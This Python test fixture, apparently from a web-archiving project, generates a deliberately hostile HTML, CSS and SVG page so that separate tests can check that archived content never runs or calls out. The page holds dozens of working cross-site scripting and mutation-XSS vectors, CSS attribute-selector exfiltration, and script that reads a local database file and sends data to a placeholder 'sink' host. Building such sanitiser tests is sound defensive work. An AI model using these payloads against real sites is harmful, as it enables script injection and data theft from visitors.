"""A page that tries everything: to run, to call home, to lead away, to read what is around it.

Each attempt names itself in a request to ``sink``, or on the console (`MARK`).  Not for: what
becomes of it (``test_hostile_page.py``).
"""

import html

MARK = "archive-script-ran"

_PAGE = """<!doctype html>
<html onload="R(0)" manifest="{sink}/manifest">
<head>
<title>&lt;script&gt;R(1)&lt;/script&gt;</title>
<meta http-equiv="refresh" content="1;url={sink}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta name="description" content='"><script>{run}</script>'>
<base href="{sink}/base/" target="_top">
<link rel="stylesheet" href="{sink}/sheet.css"><link rel="preload" as="image" href="{sink}/preload">
<link rel="prefetch" href="{sink}/prefetch"><link rel="dns-prefetch" href="{sink}/dns">
<link rel="preconnect" href="{sink}"><link rel="icon" href="{sink}/icon.png">
<link rel="manifest" href="{sink}/app.json"><link rel="modulepreload" href="{sink}/module.js">
<link rel="stylesheet" href="/hostile.css">
<style>@import "{sink}/import1.css"; @import url({sink}/import2.css);
@font-face {{ font-family: f; src: url({sink}/font.woff2) }}
body {{ font-family: f; background: url({sink}/background.png), image-set("{sink}/set.png" 1x) }}
p {{ background: u\\72l("{sink}/escaped.png"); list-style: url({sink}/list.png) }}
input[value^="s"] {{ background: url({sink}/exfiltrate?s) }}
b::after {{ content: url({sink}/content.png) }} a {{ cursor: url({sink}/cursor.png), auto }}
c {{ width: expression({run}); -moz-binding: url({sink}/binding) }}
</style><style>/*</style><script>{run}</script>*/</style>
<script>{run}</script><script src="{sink}/script.js"></script>
<script type="module">import "{sink}/module2.js"; {run}</script>
<script>navigator.serviceWorker && navigator.serviceWorker.register("/worker.js");
fetch("/-/databases.json").then(r => r.text()).then(t => fetch("{sink}/stolen?" + t.length));
top.document.title = "stolen"; top.location = "{sink}/top"; document.cookie = "a=b";
new WebSocket("ws:{sink_host}/socket"); navigator.sendBeacon("{sink}/beacon"); {run}</script>
<noscript><p title="</noscript><img src='{sink}/noscript.png' onerror='{run}'>"></noscript>
</head>
<body onload="{run}" onpageshow="{run}" background="{sink}/body.png">
<p>Words of the page.</p><p style="background:url({sink}/style.png)">styled</p>
<img src="{sink}/image.png" onerror="{run}" onload="{run}"><img srcset="{sink}/srcset.png 1x">
<img src=x onerror={run}><img/src=`x`/onerror={run}>
<picture><source srcset="{sink}/picture.png"><img src="{sink}/picture2.png"></picture>
<input type=image src="{sink}/input.png" autofocus onfocus="{run}"><input value="secret">
<video src="{sink}/video.mp4" poster="{sink}/poster.png" autoplay></video>
<audio src="{sink}/audio.mp3" autoplay></audio><video><track src="{sink}/track" default></video>
<object data="{sink}/object"></object><embed src="{sink}/embed">
<applet code="{sink}/applet"></applet>
<iframe src="{sink}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>
<iframe src="javascript:{run}"></iframe><frameset><frame src="{sink}/frame"></frameset>
<svg onload="{run}"><script>{run}</script><image href="{sink}/svg.png"/>
<use href="{sink}/use.svg#x"/><foreignObject><iframe src="{sink}/foreign"></iframe></foreignObject>
<animate onbegin="{run}" attributeName="x" dur="1s"/>
<a><set attributeName="href" to="{sink}/set"/></a>
<rect width="9" height="9" fill="url({sink}/fill.svg#x)" filter="url({sink}/filter.svg#x)"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">
</table></mtext></math>
<svg></p><style><a id="</style><img src={sink}/mutation.png onerror={run}>">
</style></svg>
<template><img src="{sink}/template.png" onerror="{run}"></template>
<form action="{sink}/form" id=f><input name=a value=b><button>send</button></form>
<a href="javascript:{run}" id=j>j</a><a href="{sink}/ping" ping="{sink}/pinged">p</a>
<details open ontoggle="{run}"></details><marquee onstart="{run}">m</marquee>
<body onload="{run}"><isindex action="{sink}/isindex"><bgsound src="{sink}/sound">
<![CDATA[<script>{run}</script>]]><!--[if gte IE 4]><script>{run}</script><![endif]-->
<scr\0ipt>{run}</scr\0ipt><script\0>{run}</script>
<table background="{sink}/table.png"><td background="{sink}/cell.png"></table>
<meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url">
<script type="speculationrules">{{"prerender": [{{"urls": ["{sink}/speculated"]}}]}}</script>
<link rel="prerender" href="{sink}/prerender">
<link rel="stylesheet" href="data:text/css,
@import '{sink}/data-sheet.css'">
<link rel="alternate stylesheet" title="b" href="{sink}/other.css">
<style>@import "{sink}/layered.css" layer(a) supports(display: grid) screen;
@layer b {{ i {{ background: -webkit-image-set(url({sink}/webkit-set.png) 1x),
src("{sink}/src.png"),
cross-fade(url({sink}/fade.png), red) }} }}
i {{ mask: url({sink}/mask.svg#m);
shape-outside: url({sink}/shape.png); filter: url({sink}/f.svg#x);
--held: url({sink}/variable.png); border-image: var(--held) 1; offset-path:
url({sink}/path.svg#p) }}
@media (min-width: 1px) {{ i {{ @import "{sink}/nested-import.css";
background: URL( {sink}/upper ) }} }}
@container (min-width: 1px) {{ i {{ background-image: url("{sink}/container.png") }} }}
</style><i>masked</i>
<object data="data:text/html,<script>{run}</script>"></object><embed src="data:text/html,<b>b</b>">
<a href="data:text/html,<script>{run}</script>" id=d autofocus>d</a><a href="vbscript:x">v</a>
<a href=" java&#10;script:{run}" id=k>k</a><a href="blob:{sink}/1">b</a>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'>
<image href='{sink}/inline-svg.png'/></svg>" attributionsrc="{sink}/attribution">
<img loading=lazy src="{sink}/lazy.png"><img lowsrc="{sink}/low.png" dynsrc="{sink}/dyn.png">
<div><template shadowrootmode="open"><img src="{sink}/shadow.png" onerror="{run}">
<script>{run}</script><style>:host {{ background: url({sink}/host.png) }}</style></template></div>
<button formaction="{sink}/formaction" form=f popovertarget=o>send</button>
<dialog open>o</dialog>
<div id=o popover onbeforetoggle="{run}">o</div><input type=submit formaction="{sink}/input-action">
<svg><style>@import "{sink}/svg-import.css";
rect {{ fill: url({sink}/svg-fill.svg#f) }}</style>
<filter id=x><feImage href="{sink}/feimage.png"/></filter><rect filter="url(#x)" width=9 height=9 />
<a href="javascript:{run}"><text y=9>t</text></a><animate attributeName="href"
to="{sink}/to"/></svg>
<math xlink:href="javascript:{run}" href="javascript:{run}"><mi>x</mi>
<maction actiontype="statusline#{sink}" xlink:href="javascript:{run}">m</maction></math>
<video controls><source src="{sink}/source.mp4"></video><portal src="{sink}/portal"></portal>
<fencedframe src="{sink}/fenced"></fencedframe><webview src="{sink}/webview"></webview>
<p contenteditable onfocus="{run}" autofocus tabindex=1 accesskey=x onclick="{run}">edit</p>
<p style="animation: a 1s" onanimationstart="{run}">a</p><style>@keyframes a {{ to {{
background: url({sink}/keyframe.png) }} }}</style>
<script>document.getElementById("f").submit(); document.getElementById("j").click();</script>
<plaintext><script>{run}</script>
"""
_SHEET = """@import "{sink}/nested.css"; body {{ background: url({sink}/nested.png) }}
p::before {{ content: url('{sink}/before.png') }} @namespace url({sink}/namespace);
"""
_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="99" height="99" onload="{run}"><script>{run}</script><script xlink:href="{sink}/svg.js"/>
<image xlink:href="{sink}/in-svg.png" width="9" height="9"/>
<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="{run}">
<img src="{sink}/in-foreign.png"/></body></foreignObject></svg>
"""


_WORDS = """<!doctype html><html lang="en"><title>{bad} Ferry {word}</title>
<meta name="author" content="{bad}"><meta property="og:site_name" content="{bad}">
<meta property="og:title" content="{bad} Ferry {word}"><meta name="description" content="{bad}">
<meta property="article:published_time" content="2024-02-20T08:00:00+01:00{bad}">
<meta property="og:image" content="{sink}/og.png"><link rel="canonical" href="javascript:{run}">
<link rel="license" href="javascript:{run}"><link rel="author" href="{sink}/author">
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "{json_bad} Ferry {word}",
"author": {{"name": "{json_bad}", "url": "javascript:{run}"}},
"publisher": {{"name": "{json_bad}", "logo": "{sink}/logo.png"}}}}</script>
<article><h1>{bad} Ferry {word}</h1>
<p>The ferry leaves the pier at {word} {bad} in the morning, and returns at noon with the post.</p>
<p>Tickets are sold at the harbour office <a href="javascript:{run}">{word} link</a>
<a href="{sink}/linked?{word}">{bad} other link</a>, which is open until six in the evening.</p>
<p>Nobody was there to hear it, which is why it is written down here once more. {bad}</p></article>
"""


def make_hostile_words(sink: str, word: str) -> bytes:
    """Return a page whose text, title and all that it states of itself is markup; with a word."""
    run = f"console.log(`{MARK}`);new(Image)().src=`{sink}/ran`"
    bad = f"</td></title></script><script>{run}</script><img src={sink}/words.png onerror={run}>"
    page = _WORDS.format(
        bad=html.escape(f"\">'>{bad}"),
        json_bad=bad.replace("</script>", "<\\/script>"),
        sink=sink,
        run=run,
        word=word,
    )
    return page.encode()


def make_hostile(sink: str) -> dict[str, tuple[str, bytes]]:
    """Return what a hostile site answers, by target: media type and body."""
    words = {
        "sink": sink,
        "sink_host": sink.partition(":")[2],
        "run": f"console.log(`{MARK}`);new(Image)().src=`{sink}/ran`",
    }
    page = _PAGE.format(**words).encode()
    return {
        "/hostile": ("text/html", page),
        "/hostile.xhtml": ("application/xhtml+xml", page),
        "/hostile.txt": ("text/plain", page),
        "/hostile-unsaid": ("", page),
        "/hostile-utf16": (
            "text/html; charset=utf-16",
            b"\xff\xfe" + page.decode().encode("utf-16-le"),
        ),
        "/hostile.css": ("text/css", _SHEET.format(**words).encode()),
        "/hostile.svg": ("image/svg+xml", _SVG.format(**words).encode()),
    }
